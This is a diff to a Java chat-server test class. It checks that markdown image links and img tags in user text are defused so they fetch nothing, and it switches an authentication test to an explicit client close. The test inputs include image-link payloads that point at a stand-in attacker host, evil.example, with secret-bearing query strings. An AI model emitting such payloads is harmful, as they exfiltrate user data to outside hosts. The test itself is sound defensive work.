@@ -141,10 +141,8 @@ class ChatTest {
 
     @Test
     void wordsOfOthersFetchNoPicture() {
-        JsonNode run = served.run("user.say('![x](http://evil.example/?q=secret) <img src=x>')");
-        assertThat(run.path("state").asText()).isEqualTo("succeeded");
         String said = say("remind me at 18:00 to look at ![x](http://evil.example/?q=1) <img src=x>");
-        assertThat(said).doesNotContain("![", "<img");
+        assertThat(said).contains("! [x]", "‹img").doesNotContain("![", "<img");
     }
 
     @Test
@@ -169,9 +167,9 @@ class ChatTest {
 
     @Test
     void whatIsWrongIsSaidInOpenAisForm() {
-        try (OpenAIClient stranger = client("wrong")) {
-            assertThatThrownBy(() -> stranger.models().list()).isInstanceOf(UnauthorizedException.class);
-        }
+        OpenAIClient stranger = client("wrong");
+        assertThatThrownBy(() -> stranger.models().list()).isInstanceOf(UnauthorizedException.class);
+        stranger.close();
         assertThatThrownBy(() -> client.chat()
                         .completions()
                         .create(talk("hi").model("gpt-4o").build()))
